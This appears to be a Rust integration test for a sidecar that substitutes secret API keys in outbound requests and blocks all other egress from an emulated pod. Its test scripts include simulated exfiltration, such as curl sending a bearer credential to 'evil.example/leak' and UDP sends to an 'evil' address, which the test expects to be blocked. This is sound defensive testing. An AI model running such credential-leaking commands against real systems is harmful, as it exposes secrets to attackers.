//! End-to-end: `standin boundary` serving a pod's network namespace, emulated without a
//! cluster. The fake internet's client namespace is the pod; `boundary init` installs the
//! capture rules as an init container would; the boundary runs as one uid and the "app" as
//! another, both in the pod's namespace, the app with the environment `boundary env` prints.

mod support;

use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc::Receiver;
use std::time::Duration;
use support::*;

/// The sidecar's uid (exempt from capture) and the app's.
const BOUNDARY_UID: u32 = 4101;
const APP_UID: u32 = 4102;
const HEALTH: &str = "127.0.0.1:15021";
const ENV: &str = "OPENAI_API_KEY";

/// One emulated pod: its files, the boundary process and its event stream.
struct Pod<'a> {
    net: &'a FakeInternet,
    dir: tempfile::TempDir,
    boundary: Option<(Child, Receiver<String>)>,
}

impl<'a> Pod<'a> {
    fn new(net: &'a FakeInternet, on_violation: &str) -> Pod<'a> {
        let dir = tempfile::tempdir().unwrap();
        let d = dir.path();
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::write(d.join("openai"), "real-value-1\n").unwrap();
        std::fs::set_permissions(d.join("openai"), std::fs::Permissions::from_mode(0o644)).unwrap();
        for (sub, mode) in [("state", 0o700), ("ca", 0o755)] {
            std::fs::create_dir(d.join(sub)).unwrap();
            std::os::unix::fs::chown(d.join(sub), Some(BOUNDARY_UID), Some(BOUNDARY_UID)).unwrap();
            std::fs::set_permissions(d.join(sub), std::fs::Permissions::from_mode(mode)).unwrap();
        }
        std::fs::write(
            d.join("config.toml"),
            format!(
                r#"
[secrets]
upstream_cas = ["{ca}"]
passthrough = ["traces.example"]
on_violation = "{on_violation}"

[[secret]]
env = "{ENV}"
value_file = "{value}"
allow_hosts = ["api.openai.com"]
"#,
                ca = net.ca_file().display(),
                value = d.join("openai").display(),
            ),
        )
        .unwrap();
        // The test CA's directory must be readable by the boundary's uid.
        let pki = net.pki_dir();
        std::fs::set_permissions(&pki, std::fs::Permissions::from_mode(0o755)).unwrap();
        Pod {
            net,
            dir,
            boundary: None,
        }
    }

    fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p)
    }

    /// `standin ARGS` in the pod's namespace as `uid` (root: `None`).
    fn standin(&self, uid: Option<u32>, args: &[&str]) -> Command {
        let mut c = Command::new("ip");
        c.args(["netns", "exec", &self.net.client]);
        if let Some(uid) = uid {
            c.args([
                "setpriv",
                &format!("--reuid={uid}"),
                &format!("--regid={uid}"),
                "--clear-groups",
            ]);
        }
        c.arg(standin_bin()).args(args);
        c
    }

    /// `standin boundary` with this pod's config and directories, run to its end (for
    /// starts that must be refused).
    fn serve_once(&self, uid: Option<u32>) -> Output {
        self.standin(
            uid,
            &[
                "boundary",
                "--config",
                self.path("config.toml").to_str().unwrap(),
                "--state-dir",
                self.path("state").to_str().unwrap(),
                "--ca-dir",
                self.path("ca").to_str().unwrap(),
            ],
        )
        .output()
        .unwrap()
    }

    /// Start the boundary and wait for its `sandbox-started` event (it is ready then).
    fn start_boundary(&mut self) {
        let mut child = self
            .standin(
                Some(BOUNDARY_UID),
                &[
                    "boundary",
                    "--config",
                    self.path("config.toml").to_str().unwrap(),
                    "--health",
                    HEALTH,
                    "--state-dir",
                    self.path("state").to_str().unwrap(),
                    "--ca-dir",
                    self.path("ca").to_str().unwrap(),
                    "--system-bundle",
                    self.net.ca_file().to_str().unwrap(),
                    "--reload-secs",
                    "1",
                    "--log-level",
                    "info",
                    "--name",
                    "agent-pod",
                ],
            )
            .stdout(Stdio::piped())
            .stderr(
                std::fs::OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(self.path("boundary.log"))
                    .unwrap(),
            )
            .spawn()
            .unwrap();
        // Events arrive on a thread of their own, so a missing one fails the test instead of
        // hanging it.
        let (tx, events) = std::sync::mpsc::channel();
        let out = BufReader::new(child.stdout.take().unwrap());
        std::thread::spawn(move || {
            for line in out.lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let first = next_line(&events);
        if !first.contains("sandbox-started") {
            let _ = child.kill();
            let _ = child.wait();
            panic!("boundary did not start: {first:?} {}", self.log());
        }
        self.boundary = Some((child, events));
    }

    /// Read events until one contains `needle`; all of them, that one last.
    fn events_until(&mut self, needle: &str) -> String {
        let (_, events) = self.boundary.as_mut().expect("boundary running");
        let mut seen = String::new();
        loop {
            let line = next_line(events);
            assert!(!line.is_empty(), "no event with {needle:?}; saw:\n{seen}");
            seen.push_str(&line);
            seen.push('\n');
            if line.contains(needle) {
                return seen;
            }
        }
    }

    /// Wait for the boundary to exit; its status and its log.
    fn boundary_exit(&mut self) -> (Option<i32>, String) {
        let (mut child, _) = self.boundary.take().expect("boundary running");
        let status = child.wait().unwrap();
        (status.code(), self.log())
    }

    /// What the boundary wrote to stderr so far.
    fn log(&self) -> String {
        std::fs::read_to_string(self.path("boundary.log")).unwrap_or_default()
    }

    fn kill_boundary(&mut self) {
        let (mut child, _) = self.boundary.take().expect("boundary running");
        child.kill().unwrap();
        child.wait().unwrap();
    }

    /// The app's environment, as `boundary env --format env` prints it.
    fn app_env(&self) -> Vec<(String, String)> {
        let o = self
            .standin(
                None,
                &[
                    "boundary",
                    "env",
                    "--format",
                    "env",
                    "--config",
                    self.path("config.toml").to_str().unwrap(),
                    "--ca-dir",
                    self.path("ca").to_str().unwrap(),
                ],
            )
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
        stdout(&o)
            .lines()
            .map(|l| {
                let (k, v) = l.split_once('=').unwrap();
                (k.to_owned(), v.to_owned())
            })
            .collect()
    }

    /// `sh -c script` as the app's uid in the pod, with the app's environment.
    fn app(&self, script: &str) -> Output {
        Command::new("ip")
            .args(["netns", "exec", &self.net.client, "setpriv"])
            .args([
                &format!("--reuid={APP_UID}"),
                &format!("--regid={APP_UID}"),
                "--clear-groups",
            ])
            .args(["sh", "-c", script])
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .envs(self.app_env())
            .output()
            .unwrap()
    }
}

impl Drop for Pod<'_> {
    fn drop(&mut self) {
        if let Some((mut child, _)) = self.boundary.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// The next event line, or empty when none comes within 30 s (or the boundary exited).
fn next_line(r: &Receiver<String>) -> String {
    r.recv_timeout(Duration::from_secs(30)).unwrap_or_default()
}

/// `boundary init` for the pod: run inside its namespace (`ip netns exec`, as an init
/// container is), or from the host's with `--netns` (`from_outside`).
fn init_rules(net: &FakeInternet, from_outside: bool) {
    let uid = BOUNDARY_UID.to_string();
    let o = if from_outside {
        let ns = format!("/run/netns/{}", net.client);
        Command::new(standin_bin())
            .args(["boundary", "init", "--uid", &uid, "--netns", &ns])
            .output()
            .unwrap()
    } else {
        Command::new("ip")
            .args(["netns", "exec", &net.client, standin_bin()])
            .args(["boundary", "init", "--uid", &uid])
            .output()
            .unwrap()
    };
    assert!(o.status.success(), "{}", stderr(&o));
}

/// curl as the app, with the placeholder in a header; prints the HTTP status or `failed`.
fn curl(args: &str, url: &str) -> String {
    format!(
        "c=$(curl -sS -o /dev/null -w '%{{http_code}}' --max-time 10 {args} \
         -H \"Authorization: Bearer ${ENV}\" {url}) && echo $c || echo failed"
    )
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn an_app_in_a_pod_gets_the_four_outcomes_through_the_sidecar_and_nothing_around_it() {
    require_root();
    let net = FakeInternet::with_http(&[80], &[443]);
    init_rules(&net, false);
    let mut pod = Pod::new(&net, "block-and-log");
    pod.start_boundary();

    // `boundary env`: the placeholder and the CA variables, as a container's env list.
    let o = pod
        .standin(
            None,
            &[
                "boundary",
                "env",
                "--config",
                pod.path("config.toml").to_str().unwrap(),
                "--ca-dir",
                "/var/run/standin/ca",
            ],
        )
        .output()
        .unwrap();
    let yaml = stdout(&o);
    assert!(
        yaml.contains("- name: OPENAI_API_KEY\n  value: \"$MSB_OPENAI_API_KEY\"\n")
            && yaml.contains("value: \"/var/run/standin/ca/ca-bundle.pem\""),
        "{yaml}{}",
        stderr(&o)
    );
    assert!(!yaml.contains("real-value"));

    // Substitution, over IPv4 and IPv6, with the published bundle (the app's only trust).
    let o = pod.app(&format!(
        "{}; {}; {}; {}",
        curl(
            "--cacert \"$CURL_CA_BUNDLE\"",
            "https://api.openai.com/sub4"
        ),
        curl(
            "-6 --cacert \"$CURL_CA_BUNDLE\"",
            "https://api.openai.com/sub6"
        ),
        curl("--cacert \"$CURL_CA_BUNDLE\"", "https://evil.example/leak"),
        curl(
            "--cacert \"$CURL_CA_BUNDLE\"",
            "https://traces.example/pass"
        ),
    ));
    assert_eq!(
        stdout(&o),
        "200\n200\nfailed\n200\n",
        "{}{}",
        report(&o, &net),
        pod.log()
    );
    assert!(
        net.sent_with("sub4").contains("Bearer real-value-1"),
        "{}",
        net.received()
    );
    assert!(
        net.sent_with("sub6").contains("Bearer real-value-1"),
        "{}",
        net.received()
    );
    assert!(
        net.received_at(&format!("[{UPSTREAM_V6}]"))
            .contains("GET /sub6 "),
        "{}",
        net.received()
    );
    // Blocked: evil.example learned nothing. Passed through: the placeholder, as data.
    assert!(!net.received().contains("/leak"), "{}", net.received());
    assert!(net.sent_with("pass").contains("Bearer $MSB_OPENAI_API_KEY"));
    assert!(!net.sent_with("pass").contains("real-value"));

    // DNS is egress: a name that resolves to a private address is denied, also when the app
    // asks the fake internet's resolver directly, over UDP or TCP.
    let o = pod.app(&format!(
        "getent hosts private.example || echo nx; \
         dig +short +time=3 +tries=1 @{DNS_V4} private.example; echo dig=$?; \
         dig +short +tcp +time=3 +tries=1 @{DNS_V4} private.example; echo tcp=$?"
    ));
    let text = stdout(&o);
    assert!(text.starts_with("nx\n"), "{text}{}", stderr(&o));
    assert!(!text.contains(PRIVATE_V4), "{text}");

    // Around the boundary: UDP elsewhere is refused at send, a private address by the
    // boundary (an event says so), ICMP is refused.
    let o = pod.app(&format!(
        "python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b\"x\", (\"{EVIL_V4}\", 9999)); print(\"udp sent\")
except OSError as e:
    print(\"udp refused\", e.errno)'; \
         curl -sS --max-time 5 http://{PRIVATE_V4}/ >/dev/null 2>&1 || echo private-refused; \
         ping -c1 -W2 {EVIL_V4} >/dev/null 2>&1 || echo ping-refused"
    ));
    assert_eq!(
        stdout(&o),
        "udp refused 1\nprivate-refused\nping-refused\n",
        "{}",
        stderr(&o)
    );
    pod.events_until(&format!("\"addr\":\"{PRIVATE_V4}:80\""));

    // Health: ready while serving.
    let o = Command::new("ip")
        .args([
            "netns",
            "exec",
            &net.client,
            "curl",
            "-s",
            &format!("http://{HEALTH}/readyz"),
        ])
        .output()
        .unwrap();
    assert_eq!(stdout(&o), "ready\n");

    // A changed value file (as Kubernetes updates a mounted Secret: a new file renamed over
    // the old) is picked up without a restart.
    let tmp = pod.path("openai.new");
    std::fs::write(&tmp, "real-value-2\n").unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::rename(&tmp, pod.path("openai")).unwrap();
    pod.events_until("secret-rotated");
    let o = pod.app(&curl(
        "--cacert \"$CURL_CA_BUNDLE\"",
        "https://api.openai.com/rotated",
    ));
    assert_eq!(stdout(&o), "200\n", "{}", report(&o, &net));
    assert!(net.sent_with("rotated").contains("Bearer real-value-2"));

    // Restart: while no boundary runs, nothing leaves the pod (the rules stay).
    let bundle_before = std::fs::read(pod.path("ca/ca-bundle.pem")).unwrap();
    let kept = pod.path("kept-bundle.pem");
    std::fs::write(&kept, &bundle_before).unwrap();
    std::fs::set_permissions(&kept, std::fs::Permissions::from_mode(0o644)).unwrap();
    pod.kill_boundary();
    let o = pod.app(&format!(
        "{}; {}; getent hosts api.openai.com || echo nx",
        curl(
            "--cacert \"$CURL_CA_BUNDLE\"",
            "https://api.openai.com/down"
        ),
        curl(
            &format!("--resolve api.openai.com:443:{UPSTREAM_V4} --cacert \"$CURL_CA_BUNDLE\""),
            "https://api.openai.com/down-direct"
        ),
    ));
    assert_eq!(stdout(&o), "failed\nfailed\nnx\n", "{}", stderr(&o));
    assert!(!net.received().contains("/down"), "{}", net.received());
    // Back up: the same CA, so the bundle the app loaded before still verifies.
    pod.start_boundary();
    let o = pod.app(&curl(
        &format!("--cacert {}", kept.display()),
        "https://api.openai.com/again",
    ));
    assert_eq!(stdout(&o), "200\n", "{}", report(&o, &net));
    assert!(net.sent_with("again").contains("Bearer real-value-2"));

    // The boundary's uid is the only exemption: the app cannot claim it with --uid.
    let o = pod
        .standin(
            Some(APP_UID),
            &[
                "boundary",
                "--uid",
                &BOUNDARY_UID.to_string(),
                "--config",
                pod.path("config.toml").to_str().unwrap(),
            ],
        )
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("its own connections would be captured"),
        "{}",
        stderr(&o)
    );

    // SIGTERM: a clean exit, and the pod stays closed.
    let (child, _) = pod.boundary.as_ref().unwrap();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let (code, _) = pod.boundary_exit();
    assert_eq!(code, Some(0));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn block_and_terminate_ends_the_pods_service_for_good() {
    require_root();
    let net = FakeInternet::with_http(&[80], &[443]);
    // From outside: if --netns were ignored, the rules would land in the host's namespace,
    // the pod's traffic would go out uncaptured, and the checks below would fail.
    init_rules(&net, true);
    let mut pod = Pod::new(&net, "block-and-terminate");
    pod.start_boundary();
    let o = pod.app(&format!(
        "{}; {}",
        curl(
            "--cacert \"$CURL_CA_BUNDLE\"",
            "https://api.openai.com/before"
        ),
        curl("--cacert \"$CURL_CA_BUNDLE\"", "https://evil.example/leak"),
    ));
    assert_eq!(stdout(&o), "200\nfailed\n", "{}", report(&o, &net));
    let (code, err) = pod.boundary_exit();
    assert_eq!(code, Some(99), "{err}");
    assert!(err.contains("terminated this pod"), "{err}");
    assert!(!net.received().contains("/leak"));
    // Nothing more leaves the pod, and a restarted boundary refuses to serve it again.
    let o = pod.app(&curl(
        "--cacert \"$CURL_CA_BUNDLE\"",
        "https://api.openai.com/after",
    ));
    assert_eq!(stdout(&o), "failed\n");
    let o = pod.serve_once(Some(BOUNDARY_UID));
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(stderr(&o).contains("delete the pod"), "{}", stderr(&o));
    assert!(!net.received().contains("/after"));
}

/// The boundary refuses to serve when the capture rules are missing (nothing would be
/// captured, and it would look healthy).
#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn without_the_capture_rules_the_boundary_refuses_to_serve() {
    require_root();
    let net = FakeInternet::with_http(&[80], &[443]);
    let pod = Pod::new(&net, "block-and-log");
    let o = pod.serve_once(None);
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("boundary init --uid 0"),
        "{}",
        stderr(&o)
    );
}
